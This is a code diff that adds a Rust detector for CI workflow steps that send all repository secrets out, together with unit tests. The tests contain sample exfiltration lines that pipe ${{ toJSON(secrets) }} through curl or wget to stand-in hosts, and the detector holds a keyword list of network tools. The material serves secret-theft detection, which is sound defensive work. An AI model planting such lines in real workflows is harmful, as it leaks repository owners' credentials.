@@ -355,6 +355,31 @@ pub fn hidden_text(text: &str) -> bool {
         && !decoded.trim_ascii_start().starts_with(b"<")
 }
 
+/// Whether a text is a CI workflow step that sends every secret of the repository out:
+/// `${{ toJSON(secrets) }}` (GitHub's expressions ignore case) beside a command that
+/// talks to the network. Planted in other repositories' workflows, this is how the 2025
+/// workflow worms collected their victims' secrets; no workflow needs all of them at once
+/// to send somewhere.
+#[must_use]
+pub fn workflow_secret_dump(text: &str) -> bool {
+    if text.len() > 1 << 16 {
+        return false;
+    }
+    let lower = text.to_ascii_lowercase();
+    let compact: String = lower.chars().filter(|c| !c.is_whitespace()).collect();
+    compact.contains("tojson(secrets)")
+        && [
+            "curl ",
+            "wget ",
+            "invoke-webrequest",
+            "invoke-restmethod",
+            "http://",
+            "https://",
+        ]
+        .iter()
+        .any(|s| lower.contains(s))
+}
+
 /// Shannon entropy in bits per byte.
 #[must_use]
 pub fn entropy(bytes: &[u8]) -> f64 {
@@ -496,6 +521,23 @@ mod tests {
         )));
         assert!(!hidden_text(&b64(b"short text")));
         assert!(!hidden_text(&"deadbeef".repeat(40)));
+    }
+
+    #[test]
+    fn workflows_that_send_every_secret() {
+        assert!(workflow_secret_dump(
+            "steps:\n  - run: curl -d \"${{ toJSON(secrets) }}\" https://collect.example.invalid/"
+        ));
+        assert!(workflow_secret_dump(
+            "run: echo '${{ tojson( secrets ) }}' | base64 | wget --post-data=@- http://192.0.2.7/"
+        ));
+        // Printing them for debugging, or one secret sent to its own service, is not.
+        assert!(!workflow_secret_dump(
+            "run: echo '${{ toJSON(secrets) }}' > /dev/null"
+        ));
+        assert!(!workflow_secret_dump(
+            "run: curl -H \"Authorization: ${{ secrets.DEPLOY_TOKEN }}\" https://deploy.example.invalid/"
+        ));
     }
 
     #[test]
